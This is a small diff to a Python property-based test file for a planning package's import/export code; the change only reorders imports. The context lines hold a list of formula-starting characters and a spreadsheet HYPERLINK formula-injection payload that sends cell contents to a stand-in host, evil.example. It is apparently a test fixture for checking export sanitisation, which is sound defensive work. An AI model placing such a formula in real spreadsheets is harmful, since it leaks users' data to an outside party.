@@ -18,10 +18,10 @@ from hypothesis import strategies as st
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from genxsop_core.cycle import meeting_pack
-from genxsop_core.plans import versions as plan_versions
-from genxsop_core.persistence.db import get_engine
 from genxsop_core.io import exporter, importer
 from genxsop_core.io.formats import FORMATS
+from genxsop_core.persistence.db import get_engine
+from genxsop_core.plans import versions as plan_versions
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
